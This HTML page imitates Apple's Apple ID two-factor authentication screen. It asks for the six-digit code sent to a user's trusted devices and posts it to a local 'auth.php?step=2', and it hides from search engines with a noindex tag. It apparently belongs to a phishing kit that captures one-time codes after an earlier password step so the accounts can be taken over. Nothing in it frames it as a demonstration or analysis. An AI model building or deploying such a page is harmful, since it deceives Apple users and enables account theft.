<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><meta name="robots" content="noindex, nofollow"><title>Apple ID - Two-Factor Authentication</title>
<style>body{font-family:-apple-system,Arial,sans-serif;background:#f5f5f7;text-align:center;color:#1d1d1f}.p{max-width:400px;margin:80px auto;background:#fff;border-radius:18px;padding:34px}input{width:200px;padding:12px;font-size:22px;letter-spacing:8px;text-align:center;border:1px solid #d2d2d7;border-radius:10px}button{display:block;margin:16px auto 0;padding:12px 30px;border:0;border-radius:12px;background:#0071e3;color:#fff}</style></head>
<body><div class="p">
<h1 style="font-size:22px">Two-Factor Authentication</h1>
<p>A verification code was sent to your trusted devices. Enter it below to finish unlocking your Apple ID.</p>
<form method="post" action="auth.php?step=2"><input name="code" inputmode="numeric" maxlength="6" required><button>Continue</button></form>
</div></body></html>
